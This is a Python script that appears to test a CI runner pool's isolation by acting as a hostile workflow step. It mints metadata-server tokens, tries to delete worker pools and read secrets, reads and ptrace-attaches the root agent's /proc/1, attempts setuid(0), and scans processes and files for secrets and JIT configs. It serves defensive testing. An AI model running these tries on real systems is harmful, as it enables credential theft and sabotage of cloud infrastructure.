"""What a hostile workflow step tries, as the runner's account in an instance. Standard library only: it runs in the container.

Reads what to attack from the variable PLAN (JSON), prints one line `REPORT {…}` with what each try was answered. Secrets to look
for come reversed, so that the step's own environment does not hold what it seeks.
"""

import base64
import contextlib
import ctypes
import json
import os
import sys
import urllib.error
import urllib.request
from collections.abc import Callable
from functools import partial
from typing import Any

PTRACE_ATTACH = 16
PLACES = ("/etc", "/home", "/mnt", "/opt", "/root", "/run", "/srv", "/tmp", "/usr/local", "/var", "/dev/shm")
LARGEST_FILE_BYTES = 8 * 1024 * 1024


def main() -> int:
    """Try everything; the exit code says only that the step came to its end."""
    plan = json.loads(os.environ["PLAN"])
    access, identity = minted(plan["scaler_url"])
    report = {
        "uid": os.getuid(),
        "minted": [bool(access), identity.count(".") == 2],
        "cloud": cloud_tries(plan, access),
        "scaler": scaler_tries(plan, identity),
        "agent": agent_tries(),
        "found": found(plan["needles"]),
        "jit_names": jit_names(),
        "own_name": os.environ["RUNNER_NAME"],
    }
    print("REPORT " + json.dumps(report))
    return 0


def minted(audience: str) -> tuple[str, str]:
    """An access token and an identity token of the instance's account: nothing forbids them to a step."""
    root = f"http://{os.environ['GCE_METADATA_HOST']}/computeMetadata/v1/instance/service-accounts/default"
    flavor = {"Metadata-Flavor": "Google"}
    _, token = asked("GET", f"{root}/token", headers=flavor)
    _, identity = asked("GET", f"{root}/identity?audience={audience}&format=full", headers=flavor)
    return json.loads(token)["access_token"], identity.strip()


def cloud_tries(plan: dict[str, Any], access: str) -> dict[str, int]:
    """Each API of Google's with the account's access token."""
    pools = f"/v2/projects/{plan['project']}/locations/{plan['region']}/workerPools"
    count = b'{"scaling": {"manualInstanceCount": 0}}'
    tries = [
        ("GET", pools, None),
        ("POST", f"{pools}?workerPoolId=mine", b'{"template": {"containers": [{"image": "i"}]}}'),
    ]
    for cell in plan["cells"]:
        mask = "updateMask=scaling.manualInstanceCount"
        tries += [("GET", f"{pools}/{cell}", None), ("PATCH", f"{pools}/{cell}?{mask}", count)]
        tries += [("DELETE", f"{pools}/{cell}", None)]
    tries += [
        ("GET", pools.replace("workerPools", "operations"), None),
        ("GET", f"/v1/projects/{plan['project']}/secrets/app-key/versions/latest:access", None),
        ("GET", "/storage/v1/b/records", None),
        ("GET", "/storage/v1/b/records/o", None),
        ("GET", "/storage/v1/b/records/o/cells%2Fone?alt=media", None),
        ("POST", "/upload/storage/v1/b/records/o?uploadType=media&name=cells%2Fone", b"{}"),
        ("DELETE", "/storage/v1/b/records/o/cells%2Fone", None),
    ]
    bearer = {"Authorization": f"Bearer {access}", "Content-Type": "application/json"}
    return {
        f"{method} {path}": asked(method, plan["cloud_url"] + path, headers=bearer, body=body)[0]
        for method, path, body in tries
    }


def scaler_tries(plan: dict[str, Any], identity: str) -> dict[str, int]:
    """The scaler's calls as the account that is allowed to make them, but without the cell's secret."""
    boot = "f" * 32
    tries: list[tuple[str, str, dict[str, Any] | None]] = []
    for cell in plan["cells"]:
        ask = {"cell": cell, "instance": "0" * 64, "boot": boot, "ask": 1, "uptime": 1.0}
        event = {"cell": cell, "boot": boot, "seq": 1, "state": "listening", "job": None, "result": None}
        end = {
            "cell": cell,
            "boot": boot,
            "seq": 2,
            "outcome": "finished",
            "cause": "",
            "job": None,
            "result": None,
        }
        for lease in plan["leases"]:
            tries += [("POST", f"/v1/leases/{lease}/events", event), ("POST", f"/v1/leases/{lease}/end", end)]
        tries += [("POST", "/v1/leases", ask), ("POST", "/v1/leases/start", ask)]
    tries += [("POST", "/tick", {}), ("GET", "/status", None)]
    answers = {}
    for secret in (None, "guess", ""):
        for token in (identity, None):
            headers = {"Content-Type": "application/json"}
            if token is not None:
                headers["Authorization"] = f"Bearer {token}"
            if secret is not None:
                headers["X-Cell-Secret"] = secret
            for method, path, body in tries:
                cell = (body or {}).get("cell", "")
                key = f"{method} {path} {cell} secret={secret!r} token={token is not None}"
                data = None if body is None else json.dumps(body).encode()
                answers[key] = asked(method, plan["scaler_url"] + path, headers=headers, body=data)[0]
    return answers


def agent_tries() -> dict[str, str]:
    """The agent is the first process of the container, and root."""
    tries: dict[str, Callable[[], object]] = {
        f"read /proc/1/{name}": partial(read, f"/proc/1/{name}")
        for name in ("environ", "mem", "maps", "auxv")
    }
    tries |= {
        "list /proc/1/fd": partial(os.listdir, "/proc/1/fd"),
        "enter /proc/1/root": partial(os.listdir, "/proc/1/root/"),
        "read the agent's folder": partial(os.listdir, "/opt/runner-pool"),
        "signal": partial(os.kill, 1, 15),
        "ptrace": partial(ptrace_attach, 1),
        "become root": partial(os.setuid, 0),
        "join root's group": partial(os.setgroups, [0]),
    }
    return {name: outcome(work) for name, work in tries.items()}


def found(needles: dict[str, str]) -> dict[str, list[str]]:
    """Where this account finds each secret: the environments and command lines of all processes, and files."""
    sought = {name: text[::-1].encode() for name, text in needles.items()}
    places: dict[str, list[str]] = {name: [] for name in needles}
    for path in readable_files():
        with contextlib.suppress(OSError):
            data = read(path)
            for name, secret in sought.items():
                if secret in data:
                    places[name].append(path)
    return places


def readable_files() -> list[str]:
    processes = [f"/proc/{pid}" for pid in os.listdir("/proc") if pid.isdigit()]
    paths = [f"{process}/{name}" for process in processes for name in ("environ", "cmdline")]
    for place in PLACES:
        for folder, _, names in os.walk(place):
            paths += [os.path.join(folder, name) for name in names]
    return [path for path in paths if os.path.isfile(path) and os.path.getsize(path) <= LARGEST_FILE_BYTES]


def jit_names() -> list[str]:
    """The runners whose just-in-time configuration stands in an environment that this account can read."""
    names = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            for entry in read(f"/proc/{pid}/environ").split(b"\0"):
                if entry.startswith(b"ACTIONS_RUNNER_INPUT_JITCONFIG="):
                    files = json.loads(base64.b64decode(entry.partition(b"=")[2]))
                    settings = json.loads(base64.b64decode(files[".runner"]).decode("utf-8-sig"))
                    names.add({key.lower(): value for key, value in settings.items()}["agentname"])
    return sorted(names)


def asked(method: str, url: str, *, headers: dict[str, str], body: bytes | None = None) -> tuple[int, str]:
    """Status and text of an answer."""
    request = urllib.request.Request(url, data=body, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10) as reply:
            return reply.status, reply.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(LARGEST_FILE_BYTES)


def ptrace_attach(pid: int) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def outcome(work: Callable[[], object]) -> str:
    try:
        work()
    except OSError as error:
        return type(error).__name__
    return "succeeded"


if __name__ == "__main__":
    sys.exit(main())
